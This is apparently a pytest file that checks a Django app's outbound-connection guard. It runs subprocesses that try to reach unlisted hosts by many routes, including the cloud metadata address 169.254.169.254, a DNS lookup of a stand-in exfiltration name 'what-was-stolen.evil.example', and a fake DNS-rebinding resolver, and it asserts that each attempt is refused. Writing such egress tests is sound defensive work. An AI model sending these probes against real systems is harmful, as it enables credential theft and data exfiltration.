"""The guard in processes of its own, as in production: nothing takes it out of one again."""

import json
import os
import subprocess
import sys
from contextlib import ExitStack

import pytest
from django.conf import settings

from tests.house.test_environment import PRODUCTION
from tests.ports import callers, door
from vig_portal.embedded import children

OIDC = {"OIDC_ISSUER": "https://login.example/tenant/v2.0", "OIDC_CLIENT_ID": "vig", "OIDC_CLIENT_SECRET": "a secret"}
LOCAL = {"PATH": os.environ["PATH"], "DJANGO_SETTINGS_MODULE": "vig_portal.settings", **PRODUCTION}


@pytest.fixture
def doors():
    """Two that listen on this machine: the settings name the first as the scanner, and nothing the second."""
    with ExitStack() as stack:
        listening = [stack.enter_context(door()) for _ in range(2)]
        yield [each.getsockname()[1] for each in listening], listening


def run(*command, **environment):
    done = subprocess.run(
        [sys.executable, *command],
        cwd=settings.BASE_DIR,
        env={**LOCAL, **environment},
        capture_output=True,
        text=True,
        timeout=120,
    )
    said = [json.loads(line)["said"] for line in done.stderr.splitlines() if line.startswith('{"at"')]
    return done, said


TRIES = """
import socket, http.client, smtplib, urllib.request, sys
import redis, requests
import vig_portal.wsgi  # the door of the web
from vig_portal.outbound.guard import NotOnTheList

listed, sink = int(sys.argv[1]), int(sys.argv[2])
for host in ("127.0.0.1", "localhost"):  # only the first is the scanner's name
    try:
        socket.create_connection((host, listed), timeout=5).close()
        print("opened", host)
    except NotOnTheList:
        print("refused", host)

def udp(address):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", address)

def by_number(address):
    socket.socket().connect(address)

def quietly(address):
    number = socket.socket().connect_ex(address)

for name, ask in {
    "socket": lambda: socket.create_connection(("127.0.0.1", sink)),
    "by number": lambda: by_number(("127.0.0.1", sink)),
    "by name": lambda: by_number(("localhost", sink)),
    "the listed one under a name in connect": lambda: by_number(("localhost", listed)),
    "quietly": lambda: quietly(("127.0.0.1", sink)),
    "IPv6": lambda: socket.socket(socket.AF_INET6).connect(("::ffff:127.0.0.1", sink)),
    "UDP": lambda: udp(("127.0.0.1", sink)),
    "urllib": lambda: urllib.request.urlopen(f"http://127.0.0.1:{sink}/"),
    "requests": lambda: requests.get(f"http://127.0.0.1:{sink}/"),
    "decimal": lambda: requests.get(f"http://2130706433:{sink}/"),
    "http.client": lambda: http.client.HTTPConnection("127.0.0.1", sink).request("GET", "/"),
    "smtplib": lambda: smtplib.SMTP("127.0.0.1", sink, local_hostname="here"),
    "redis": lambda: redis.Redis("127.0.0.1", sink).ping(),
    "a name": lambda: socket.getaddrinfo("what-was-stolen.evil.example", 443),
    "metadata": lambda: requests.get("http://169.254.169.254/latest/meta-data/"),
}.items():
    try:
        ask()
    except OSError as problem:
        print(name)
    except redis.ConnectionError:
        print(name)
    else:
        print("opened", name)

here, there = socket.socketpair()
socket.socket(socket.AF_UNIX).bind(path := f"{sys.argv[3]}/s")
print("listening", bool(socket.create_server(("127.0.0.1", 0))))
"""


def test_web_opens_what_its_settings_name_and_nothing_else(doors, tmp_path):
    (listed, sink), (listed_door, sink_door) = doors

    done, said = run("-c", TRIES, str(listed), str(sink), str(tmp_path), CLAMD_ADDRESS=f"127.0.0.1:{listed}")

    assert done.returncode == 0, done.stderr
    words = done.stdout.splitlines()
    assert words[:2] == ["opened 127.0.0.1", "refused localhost"]
    assert words[-1] == "listening True"
    assert len(words) == 18
    assert not [word for word in words[2:] if word.startswith("opened")]
    assert (callers(listed_door), callers(sink_door)) == (1, 0)
    assert f"Refused to open 127.0.0.1:{sink}, which no setting names" in said
    assert "Refused to open 169.254.169.254:80, which no setting names" in said


# The resolver of the system, whose answers change: it stands below the guard, as an evil one would.
REBINDS = """
import json, socket, sys
answers = iter(json.loads(sys.argv[1]))
asked = []
def resolve(host, port, family=0, type=0, proto=0, flags=0):
    asked.append(host)
    return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (one, port)) for one in next(answers)]
socket.getaddrinfo = resolve
import django; django.setup()
from vig_portal.outbound import guard
guard.stand()
guard.stand()  # is once
for host, port in json.loads(sys.argv[2]):
    try:
        print([answer[4][0] for answer in socket.getaddrinfo(host, port)])
    except guard.NotOnTheList:
        print("refused")
for number in sys.argv[3:]:
    try:
        socket.socket().connect((number, 443))
    except guard.NotOnTheList:
        print("not opened")
    except OSError:
        print("opened")
"""


# fmt: off
LOOKS_UP = (
    # name                          port   what the system answers                                  what is handed on
    ("login.example",               443,   ["8.8.8.8"],                                             "['8.8.8.8']"),
    ("login.example",               443,   ["127.0.0.1"],                                           "refused"),
    ("login.example",               443,   ["10.0.0.1", "169.254.169.254", "::ffff:127.0.0.1"],     "refused"),
    ("login.example",               443,   ["10.1.1.1", "8.8.4.4"],                                 "['8.8.4.4']"),
    ("STORE.example",               9000,  ["10.0.0.1"],                                            "['10.0.0.1']"),
    ("store.example",               9000,  ["169.254.169.254"],                                     "refused"),
    ("store.example",               9000,  ["fd00:ec2::254"],                                       "refused"),
    # not on the list: nobody is asked
    ("login.example",               80,    None,                                                    "refused"),
    ("login.example",               None,  None,                                                    "refused"),
    ("login.example.",              443,   None,                                                    "refused"),
    ("login.example.evil.example",  443,   None,                                                    "refused"),
    ("evil.example",                443,   None,                                                    "refused"),
)
# fmt: on
NEVER_ANSWERED_OR_NOT_GOOD = ("127.0.0.1", "10.1.1.1", "10.0.0.1", "1.1.1.1")


def test_a_name_that_is_answered_otherwise_the_second_time_leads_nowhere():
    """The council's sign-in is public; a store may lie in our network, and never at the keys of a cloud."""
    answers = json.dumps([answer for _, _, answer, _ in LOOKS_UP if answer is not None])
    asks = json.dumps([(name, port) for name, port, _, _ in LOOKS_UP])
    store = {"S3_BUCKET": "films", "S3_ENDPOINT_URL": "https://store.example:9000"}

    done, said = run("-c", REBINDS, answers, asks, *NEVER_ANSWERED_OR_NOT_GOOD, **OIDC, **store)

    expected = [handed_on for *_, handed_on in LOOKS_UP] + ["not opened"] * len(NEVER_ANSWERED_OR_NOT_GOOD)
    assert done.stdout.splitlines() == expected, done.stderr
    assert said.count("Refused to open login.example:443, whose name leads where it must not") == 2


# Worker and clock

STANDS = """
import socket, sys
from pathlib import Path
from celery.signals import beat_init, worker_process_init
from vig_portal.celery import app
from vig_portal.outbound.guard import NotOnTheList

@worker_process_init.connect  # in the child that does the work
@beat_init.connect
def tries(**kwargs):
    name = "beat" if "beat" in sys.argv else "worker"
    try:
        socket.create_connection(("127.0.0.1", {sink}), timeout=5)
    except NotOnTheList:
        said = "refused"
    else:
        said = "opened"
    Path("{folder}", name + ".new").write_text(said)
    Path("{folder}", name + ".new").rename(Path("{folder}", name + ".said"))
"""


def test_it_stands_in_worker_and_clock_too(doors, tmp_path):
    (_, sink), (_, sink_door) = doors
    (tmp_path / "stands.py").write_text(STANDS.format(sink=sink, folder=tmp_path))
    here = {**os.environ, "PYTHONPATH": f"{tmp_path}:{settings.BASE_DIR}", "BEAT_SCHEDULE_FILE": str(tmp_path / "b")}
    command = [sys.executable, "-m", "celery", "-A", "stands:app"]
    started = {
        name: children.start([*command, name, *words], log=tmp_path / f"{name}.log", env=here)
        for name, words in {"worker": ["--concurrency", "1"], "beat": ["--pidfile", ""]}.items()
    }

    try:
        for name, child in started.items():
            said = tmp_path / f"{name}.said"
            children.wait_until(said.exists, child, name=name, log=tmp_path / f"{name}.log", patience=60)
            assert said.read_text() == "refused"
    finally:
        for child in started.values():
            children.stop(child)

    assert callers(sink_door) == 0
